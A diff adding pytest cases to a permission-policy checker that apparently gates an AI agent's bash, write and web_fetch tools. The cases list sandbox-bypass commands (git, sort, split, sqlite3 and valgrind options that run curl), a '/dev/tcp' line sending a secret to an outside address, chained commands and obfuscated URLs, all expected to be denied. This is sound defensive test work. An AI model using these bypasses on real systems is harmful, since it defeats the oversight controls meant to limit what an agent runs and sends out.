@@ -90,6 +90,20 @@ def bash(policy: Policy, line: str) -> Decision:
         ". ./fetch.sh",
         "git -c alias.x='!curl x' x",
         "git config alias.x '!curl x'",
+        "git fetch --upload-pa='curl x' .",
+        "git grep -O'curl x' a",
+        "git clone -u 'curl x' a b",
+        "git archive --exe=curl HEAD",
+        "sort --compress-prog=curl big",
+        "split --filter='curl x' big",
+        "pytest",
+        "Rscript x",
+        "sqlite3 x '.shell curl x'",
+        "valgrind curl x",
+        "picoclaw approve a-1",
+        "echo secret > /dev/tcp/192.0.2.1/80",
+        "cat < /dev/tcp/192.0.2.1/80",
+        "ls < ; curl x",
         "alias ls=curl; ls x",
         "f() { curl x; }; f",
         "trap 'curl x' EXIT",
@@ -119,6 +133,9 @@ def test_what_would_run_a_denied_command_or_hides_what_it_runs_is_denied(line: s
         "[ -f x ] && cat x",
         "cat *.txt",
         "git log --oneline",
+        "git push -u origin x",
+        "git commit --all --message x",
+        "sort --compare x | split --lines 5",
         "A=b ls",
         "timeout 5 ls",
         "sh -c 'ls; pwd'",
@@ -163,6 +180,36 @@ def test_looking_below_a_folder_touches_what_a_rule_names_there(tool: str) -> No
     assert decide(policy, tool, {"pattern": "x", "path": "src"}).decision == "allow"
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo x > src/a",
+        "echo x >src/../src/a",
+        "ls; echo x >> /work/src/a",
+        "ls &> src/a",
+        "ls >& src/a",
+        "sh -c 'ls > src/a'",
+        "env ls > src/a",
+        "ls > s*/a",
+    ],
+)
+def test_a_redirection_writes_as_write_does(line: str) -> None:
+    no_source = Policy(rules=(Rule(tool="write", what="src/*", decision="deny"),))
+    assert decide(no_source, "bash", {"command": line}, root="/work").decision == "deny"
+    only_ls = Policy(
+        rules=(
+            Rule(tool="bash", what="ls*", decision="allow"),
+            Rule(tool="write", what="out/*", decision="allow"),
+        ),
+        default="deny",
+    )
+    assert bash(only_ls, "ls > src/a") == "deny"
+    assert bash(only_ls, "ls 2>&1 > out/a") == "allow"
+    assert bash(only_ls, "ls > /dev/null 2>/dev/null") == "allow"
+    all_of_bash = Policy(rules=(Rule(tool="bash", decision="allow"),), default="deny")
+    assert bash(all_of_bash, "ls > src/a") == "allow"
+
+
 def test_a_path_that_leaves_what_is_allowed_is_not_allowed() -> None:
     policy = Policy(rules=(Rule(tool="write", what="src/*", decision="allow"),), default="deny")
 
@@ -171,10 +218,20 @@ def test_a_path_that_leaves_what_is_allowed_is_not_allowed() -> None:
 
 
 @pytest.mark.parametrize(
-    "url", ["https://evil.example/x", "HTTPS://EVIL.example:443/x", "https://a@evil.example./x"]
+    "url",
+    [
+        "https://evil.example/x",
+        "HTTPS://EVIL.example:443/x",
+        "https://a@evil.example./x",
+        "https://evil\u3002example/x",
+        "https://good.example/a/../private/x",
+        "https://good.example/./private/x",
+        "https://good.example/%70rivate/x",
+    ],
 )
 def test_a_url_is_the_same_however_it_is_written(url: str) -> None:
-    policy = Policy(rules=(Rule(tool="web_fetch", what="https://evil.example/*", decision="deny"),))
+    denied = ("https://evil.example/*", "https://good.example/private/*")
+    policy = Policy(rules=tuple(Rule(tool="web_fetch", what=what, decision="deny") for what in denied))
 
     assert decide(policy, "web_fetch", {"url": url}).decision == "deny"
 
